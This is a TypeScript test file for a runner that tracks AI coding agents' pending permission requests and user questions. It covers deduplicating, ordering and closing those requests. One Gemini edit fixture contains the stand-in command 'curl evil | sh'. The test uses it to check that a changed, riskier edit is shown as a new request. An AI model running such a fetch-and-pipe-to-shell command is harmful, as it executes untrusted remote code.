import assert from 'node:assert/strict';
import { type Activity, nextActivity, type OpenRequest } from '../../../runner/core/agents/activity.ts';
import type { AgentEvent } from '../../../runner/core/events/agentEvent.ts';
import { describeRequest } from '../../../runner/core/requests/describeRequest.ts';
import { translate } from '../../../runner/core/runtimes/gemini/translate.ts';

const start: Activity = { kind: 'starting', since: '2026-01-01T00:00:00.000Z' };
const test = { tool_name: 'Bash', tool_input: { command: 'npm test' } };
const question = { tool_name: 'AskUserQuestion', tool_input: { questions: [{ question: 'Which one?' }] } };

function hook(name: string, fields: object, second: number, requestId?: string): AgentEvent {
  const at = `2026-01-01T00:00:0${second}.000Z`;
  const request = requestId === undefined ? {} : { request: { id: requestId, pid: 1 } };
  return { source: 'hook', at, launchId: 'l', event: { hook_event_name: name, ...fields }, ...request };
}

const ask = (requestId: string, second: number, fields: object = test) =>
  hook('PermissionRequest', fields, second, requestId);

/** A report of Gemini CLI, whose dialogs no hook waits for. */
function geminiEdit(fileDiff: string, second: number): AgentEvent {
  const details = { type: 'edit', title: 'Confirm Edit: a.ts', filePath: '/w/a.ts', fileDiff };
  const event = translate({ hook_event_name: 'Notification', cwd: '/w', notification_type: 'ToolPermission', details });
  return hook('PermissionRequest', event ?? {}, second);
}

function openAfter(...events: AgentEvent[]): OpenRequest[] {
  const activity = events.reduce(nextActivity, start);
  return activity.kind === 'waiting' ? activity.open : [];
}

const idsAfter = (...events: AgentEvent[]) => openAfter(...events).map(({ id }) => id);

describe('the open requests of an agent', () => {
  it('are two where two hooks wait, also for the same', () => {
    assert.deepEqual(idsAfter(ask('one', 1), ask('two', 2)), ['one', 'two']);
  });

  it('are one where the same hook is heard twice', () => {
    assert.deepEqual(idsAfter(ask('one', 1), ask('one', 1)), ['one']);
    const [known] = openAfter(ask('one', 1), ask('one', 2, { ...test, tool_input: { command: 'ls' } }));
    assert.equal(known?.detail, 'allow: npm test');
  });

  it('of the same are closed one by one, the oldest first', () => {
    const both = [ask('one', 1), ask('two', 2)];
    assert.deepEqual(idsAfter(...both, hook('PostToolUse', test, 3)), ['two']);
    assert.deepEqual(idsAfter(...both, hook('PostToolUse', test, 3), hook('PostToolUse', test, 4)), []);
  });

  it('of the same are told apart by the subagent and by the use of the tool, where they say so', () => {
    const subagent = { ...test, agent_id: 'b' };
    const ofTwo = [ask('one', 1), ask('two', 2, subagent)];
    assert.deepEqual(idsAfter(...ofTwo, hook('PostToolUse', subagent, 3)), ['one']);
    const use = (id: string) => ({ ...test, tool_use_id: id });
    assert.deepEqual(idsAfter(ask('one', 1, use('1')), ask('two', 2, use('2')), hook('PostToolUse', use('2'), 3)), [
      'one',
    ]);
    const [first, second] = [hook('PermissionRequest', use('1'), 1), hook('PermissionRequest', use('2'), 2)];
    assert.equal(openAfter(first, second).length, 2);
  });

  it('have another id when another change of the same file is asked for, and the one seen is not open any more', () => {
    const [seen] = openAfter(geminiEdit('+ harmless', 1));
    const open = openAfter(geminiEdit('+ harmless', 1), geminiEdit('+ curl evil | sh', 5));
    assert.equal(open.length, 1);
    assert.notEqual(open[0]?.id, seen?.id);
    assert.match(describeRequest(open[0]?.event ?? { hook_event_name: '' }).text, /evil/);
    assert.equal(open[0]?.at, '2026-01-01T00:00:05.000Z');
  });

  it('have another id when what was cut of both could differ', () => {
    const cut = { ...test, pan_cut: true };
    const [first, second] = [hook('PermissionRequest', cut, 1), hook('PermissionRequest', cut, 2)];
    assert.notDeepEqual(idsAfter(first), idsAfter(first, second));
  });

  it('are one where a question is told by its tool and by the hook that waits, in either order', () => {
    const told = hook('PreToolUse', { ...question, tool_use_id: '1' }, 1);
    assert.deepEqual(idsAfter(told, ask('one', 2, question)), ['one']);
    assert.deepEqual(idsAfter(ask('one', 1, question), told), ['one']);
  });

  it('are another one when another question is told', () => {
    const other = { ...question, tool_input: { questions: [{ question: 'And where?' }] } };
    const [first, second] = [hook('PreToolUse', question, 1), hook('PreToolUse', other, 2)];
    assert.deepEqual(
      openAfter(first, second).map(({ detail, at }) => [detail, at]),
      [['asks: And where?', '2026-01-01T00:00:02.000Z']],
    );
  });
});
